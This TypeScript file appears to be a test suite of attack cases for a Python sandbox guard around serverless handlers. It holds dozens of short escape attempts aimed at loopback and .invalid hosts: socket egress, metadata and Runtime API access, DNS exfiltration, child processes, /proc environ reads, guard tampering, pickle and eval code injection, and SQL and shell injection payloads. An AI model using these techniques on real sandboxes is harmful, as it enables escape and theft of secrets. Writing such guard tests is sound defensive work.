/** One step of an attack. It returns what it got, so that an answer means that the step was not stopped. */
export interface Attack {
  readonly kind: string;
  /** Body of `handler(event, context)`. PORT is a port of this machine that the policy allows. */
  readonly body: string;
  readonly event?: unknown;
  readonly openings?: object;
  /** What the function sees of it where that is not the guard's error. */
  readonly error?: string;
}

const INJECTED = { id: "1' OR '1'='1" };
const postgres = 'data = statement.encode() + b"\\0"\ns = socket.create_connection(("127.0.0.1", PORT))\ns.sendall(b"Q" + (len(data) + 4).to_bytes(4, "big") + data)\nreturn "sent"';

/** By name. Loopback and names that end in .invalid only. */
export const ATTACKS: Record<string, Attack> = {
  'connect to an address': { kind: 'egress', body: 'import socket\nsocket.create_connection(("127.0.0.2", 9), 1)' },
  'connect_ex': { kind: 'egress', body: 'import socket\nreturn socket.socket().connect_ex(("127.0.0.2", 9))' },
  'connect by _socket': { kind: 'egress', body: 'import _socket\n_socket.socket().connect(("127.0.0.2", 9))' },
  'another port of an allowed host': { kind: 'egress', body: 'import socket\nsocket.create_connection(("127.0.0.1", 9), 1)' },
  'urllib': { kind: 'egress', error: 'URLError', body: 'import urllib.request\nurllib.request.urlopen("http://127.0.0.3:9/", timeout=1)' },
  'asyncio': { kind: 'egress', body: 'import asyncio\nasyncio.run(asyncio.open_connection("127.0.0.2", 9))' },
  'smtplib': { kind: 'egress', body: 'import smtplib\nsmtplib.SMTP("127.0.0.2", 9, timeout=1)' },
  'ftplib': { kind: 'egress', body: 'import ftplib\nftplib.FTP().connect("127.0.0.2", 9, timeout=1)' },
  'a name that lies about its hash': { kind: 'egress', body: 'import socket\nclass Host(str):\n  def __eq__(self, other): return True\n  def __hash__(self): return hash("127.0.0.1")\nsocket.socket().connect((Host("127.0.0.2"), 9))' },
  'an address that shows two faces': { kind: 'egress', body: 'import socket\nclass Address(tuple):\n  def __getitem__(self, i): return ("127.0.0.1", PORT)[i]\nsocket.socket().connect(Address(("127.0.0.2", 9)))' },
  'IPv6': { kind: 'egress', body: 'import socket\nsocket.socket(socket.AF_INET6).connect(("::1", 9))' },
  'metadata': { kind: 'egress-metadata', body: 'import socket\ns = socket.socket()\ns.settimeout(0.2)\ns.connect(("169.254.169.254", 80))' },
  'a socket of this machine': { kind: 'egress-socket', body: 'import socket\nsocket.socket(socket.AF_UNIX).connect("/tmp/none.sock")' },
  'a raw socket': { kind: 'egress-socket', body: 'import socket\nsocket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\nreturn "raw"' },
  'the Runtime API': { kind: 'runtime-api', body: 'import http.client\nhttp.client.HTTPConnection("127.0.0.1:9001", timeout=1).request("GET", "/2018-06-01/runtime/invocation/next")' },
  'DNS': { kind: 'dns', body: 'import socket\nsocket.getaddrinfo("c2VjcmV0.evil.invalid", 443)' },
  'gethostbyname': { kind: 'dns', body: 'import socket\nsocket.gethostbyname("c2VjcmV0.evil.invalid")' },
  'gethostbyname_ex': { kind: 'dns', body: 'import socket\nsocket.gethostbyname_ex("c2VjcmV0.evil.invalid")' },
  'DNS by datagram': { kind: 'egress', body: 'import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.2", 53))\nreturn "sent"' },
  'sendmsg': { kind: 'egress', body: 'import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([b"x"], [], 0, ("127.0.0.2", 53))\nreturn "sent"' },
  'subprocess': { kind: 'child-process', body: 'import subprocess\nreturn subprocess.run(["/bin/true"]).returncode' },
  'os.system': { kind: 'child-process', body: 'import os\nreturn os.system("true")' },
  'os.popen': { kind: 'child-process', body: 'import os\nreturn os.popen("echo x").read()' },
  'os.fork': { kind: 'child-process', body: 'import os\npid = os.fork()\nif pid == 0: os._exit(0)\nreturn pid' },
  'os.posix_spawn': { kind: 'child-process', body: 'import os\nreturn os.waitpid(os.posix_spawn("/bin/true", ["true"], {}), 0)[1]' },
  'os.execv in a child': { kind: 'child-process', body: 'import os\nos.execv("/nowhere", ["x"])' },
  'pty': { kind: 'child-process', body: 'import pty\nreturn pty.spawn(["/bin/true"])' },
  'fork_exec beneath subprocess': { kind: 'child-process', body: 'import _posixsubprocess, os\nr, w = os.pipe()\nreturn _posixsubprocess.fork_exec([b"true"], [b"/bin/true"], True, (w,), None, None, -1, -1, -1, -1, -1, -1, r, w, True, False, 0, None, None, None, -1, None, *([True] if __import__("sys").version_info < (3, 14) else []))' },
  'a fresh _posixsubprocess': { kind: 'internal-binding', body: 'import sys\ndel sys.modules["_posixsubprocess"]\nimport _posixsubprocess\nreturn "loaded"' },
  'builtins replaced first': { kind: 'child-process', body: 'import builtins, os\nheld = builtins.isinstance, builtins.any\nbuiltins.isinstance = builtins.any = lambda *_: True\ntry: return os.system("true")\nfinally: builtins.isinstance, builtins.any = held' },
  'modules of the guard replaced first': { kind: 'child-process', body: 'import os, sys\nfor name, module in list(sys.modules.items()):\n  if name.startswith("zt_guard"):\n    for key in list(vars(module)):\n      if not key.startswith("__"): setattr(module, key, lambda *_, **__: None)\nreturn os.system("true")' },
  'environ': { kind: 'file-secret', body: 'return open("/proc/self/environ").read()' },
  'environ by a link in /tmp': { kind: 'file-secret', body: 'import os, tempfile\np = tempfile.mkdtemp() + "/x"\nos.symlink("/proc/self", p)\nreturn open(p + "/environ").read()' },
  'environ from its folder': { kind: 'file-secret', body: 'import os\nos.chdir("/proc/self")\nreturn open("environ").read()' },
  'environ by a descriptor of its folder': { kind: 'file-secret', body: 'import os\nd = os.open("/proc/self", os.O_RDONLY)\nreturn os.read(os.open("environ", os.O_RDONLY, dir_fd=d), 9).decode()' },
  'environ by dots': { kind: 'file-secret', body: 'return open("/tmp/../proc/./self//environ").read()' },
  'memory': { kind: 'file-secret', body: 'open("/proc/self/mem", "rb")\nreturn "open"' },
  'writing outside of /tmp': { kind: 'file-write', body: 'open("/proc/self/comm", "w").write("x")\nreturn "written"' },
  'writing by os.open': { kind: 'file-write', body: 'import os\nreturn os.write(os.open("/proc/self/comm", os.O_WRONLY), b"x")' },
  'a link in /tmp that is written': { kind: 'file-write', body: 'import os, tempfile\np = tempfile.mkdtemp() + "/x"\nos.symlink("/proc/self/comm", p)\nopen(p, "w").write("x")\nreturn "written"' },
  'removing': { kind: 'file-write', body: 'import os\nos.remove("/nowhere/zt")' },
  'renaming': { kind: 'file-write', body: 'import os\nos.rename("/tmp/zt-none", "/nowhere/zt")' },
  'a folder': { kind: 'file-write', body: 'import os\nos.mkdir("/proc/zt")' },
  'a database in a file': { kind: 'file-write', body: 'import sqlite3\nsqlite3.connect("/nowhere/zt.db")' },
  'a path of the event': { kind: 'path-traversal', event: { file: '../../../../etc/hostname' }, body: 'import os\nreturn open(os.path.dirname(__file__) + "/static/" + event["file"]).read()' },
  'a library': { kind: 'native-code', body: 'import ctypes\nreturn ctypes.CDLL("libc.so.6").getpid()' },
  'a symbol of the process': { kind: 'native-code', body: 'import ctypes\nreturn ctypes.CDLL(None).system(b"true")' },
  'memory by ctypes': { kind: 'native-code', body: 'import ctypes\nreturn bytes((ctypes.c_char * 4).from_address(id(1)))' },
  'a native module in /tmp': { kind: 'native-code', body: 'import importlib.util, shutil, tempfile\no = importlib.util.find_spec("_ssl").origin\np = tempfile.mkdtemp() + "/_ssl.so"\nshutil.copyfile(o, p)\ns = importlib.util.spec_from_file_location("_ssl", p)\nimportlib.util.module_from_spec(s)\nreturn "loaded"' },
  'another interpreter': { kind: 'worker', body: 'try: import _interpreters as i\nexcept ModuleNotFoundError: import _xxsubinterpreters as i\nreturn i.run_string(i.create(), "import os; os.system(\'true\')")' },
  'code of the event': { kind: 'code-injection', event: { formula: '__import__("os").getpid()' }, body: 'return eval(event["formula"])' },
  'code of the event in Base64': { kind: 'code-injection', event: { x: Buffer.from('result = (1).__class__').toString('base64') }, body: 'import base64\nexec(base64.b64decode(event["x"]))\nreturn "ran"' },
  'a pickle that runs a program': { kind: 'code-injection', event: { x: Buffer.from('cposix\nsystem\n(S\'true\'\ntR.').toString('base64') }, body: 'import base64, pickle\nreturn pickle.loads(base64.b64decode(event["x"]))' },
  'bytecode by marshal': { kind: 'code-from-string', body: 'import marshal\nreturn eval(marshal.loads(marshal.dumps(compile("1+1", "x", "eval"))))' },
  'another audit hook': { kind: 'tampering', error: 'LookupError', body: 'import sys\nseen = []\nsys.addaudithook(lambda *_: seen.append(1))\nsys.audit("x")\nif not seen: raise LookupError("CPython leaves a hook out that another one refuses, without an error")\nreturn "added"' },
  'objects of the guard by gc': { kind: 'tampering', body: 'import gc\nreturn len(gc.get_objects())' },
  'variables of a child': { kind: 'tampering', body: 'import os\nos.environ["LD_PRELOAD"] = "/tmp/x.so"\nreturn "set"' },
  'a signal to another process': { kind: 'tampering', body: 'import os\nreturn str(os.kill(os.getppid(), 0))' },
  'SQL to PostgreSQL': { kind: 'sql-injection', event: INJECTED, body: `import socket\nstatement = f"SELECT * FROM orders WHERE id = '{event['id']}'"\n${postgres}` },
  'SQL of a number': { kind: 'sql-injection', event: { queryStringParameters: { id: '7 OR 1=1' } }, body: `import socket\nstatement = "SELECT * FROM orders WHERE id = " + event["queryStringParameters"]["id"]\n${postgres}` },
  'SQL to MySQL': { kind: 'sql-injection', event: { body: JSON.stringify(INJECTED) }, body: 'import json, socket\nq = b"\\x03" + f"SELECT * FROM o WHERE id = \'{json.loads(event["body"])["id"]}\'".encode()\ns = socket.create_connection(("127.0.0.1", PORT))\ns.sendall(len(q).to_bytes(3, "little") + b"\\0" + q)\nreturn "sent"' },
  'SQL from a thread': { kind: 'sql-injection', event: INJECTED, body: `import socket\nfrom concurrent.futures import ThreadPoolExecutor\ndef send():\n  statement = f"SELECT * FROM orders WHERE id = '{event['id']}'"\n  ${postgres.replaceAll('\n', '\n  ')}\nreturn ThreadPoolExecutor().submit(send).result()` },
  'PartiQL': { kind: 'sql-injection', event: INJECTED, body: 'import json, http.client\nc = http.client.HTTPConnection("127.0.0.1", PORT)\nc.request("POST", "/", json.dumps({"Statement": f"SELECT * FROM \\"t\\" WHERE pk = \'{event["id"]}\'"}))\nreturn c.getresponse().status' },
  'an expression of DynamoDB': { kind: 'nosql-injection', event: { filter: 'attribute_exists(pk) OR size(secret) > :n' }, body: 'import json, http.client\nc = http.client.HTTPConnection("127.0.0.1", PORT)\nc.request("POST", "/", json.dumps({"TableName": "t", "FilterExpression": event["filter"]}))\nreturn c.getresponse().status' },
  'SQL to SQLite': { kind: 'sql-injection', event: INJECTED, body: 'return sqlite3.connect(":memory:").execute(f"SELECT 1 WHERE \'1\' = \'{event["id"]}\'").fetchall()' },
  'a card in a body to a host outside': { kind: 'data-egress', body: 'import http.client\nc = http.client.HTTPConnection("127.0.0.1", OUTSIDE)\nc.request("POST", "/", \'{"pan":"4111 1111 1111 1111"}\')\nreturn c.getresponse().status' },
  'a card in a body that is cut in two': { kind: 'data-egress', body: 'import socket\ns = socket.create_connection(("127.0.0.1", OUTSIDE))\ns.sendall(b"card=4111111")\ns.sendall(b"111111111 ")\nreturn "sent"' },
  'a card in two parts of a body without a length': { kind: 'data-egress', body: 'import http.client\nc = http.client.HTTPConnection("127.0.0.1", OUTSIDE)\nc.request("POST", "/", iter([b"card=4111111", b"111111111 "]), encode_chunked=True)\nreturn c.getresponse().status' },
  'a card by asyncio': { kind: 'data-egress', body: 'import asyncio\nasync def go():\n  r, w = await asyncio.open_connection("localhost", OUTSIDE)\n  w.write(b"POST / HTTP/1.0\\r\\ncontent-length: 21\\r\\n\\r\\ncard=4111111111111111")\n  return (await r.readline()).decode()\nreturn asyncio.run(go())' },
  'a shell with an input': { kind: 'shell-injection', event: { name: 'x; true' }, openings: { programs: ['sh', 'echo'] }, body: 'import subprocess\nreturn subprocess.run("echo " + event["name"], shell=True, capture_output=True, text=True).stdout' },
};
